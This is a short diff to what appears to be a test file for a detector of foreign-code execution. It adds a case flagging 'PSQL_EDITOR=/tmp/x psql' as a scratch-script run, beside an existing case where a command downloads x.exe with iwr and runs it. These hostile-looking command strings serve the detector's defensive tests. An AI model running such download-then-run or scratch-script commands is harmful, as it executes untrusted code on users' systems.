@@ -59,6 +59,7 @@ describeRules('foreign code', {
       './x.exe',
     ],
     ['iwr https://x -OutFile x.exe; .\\x.exe', 'remote-code.download-then-run', '.\\x.exe'],
+    ['PSQL_EDITOR=/tmp/x psql', 'remote-code.scratch-script', '/tmp/x'],
   ],
   passes: [
     'curl https://x | grep foo',
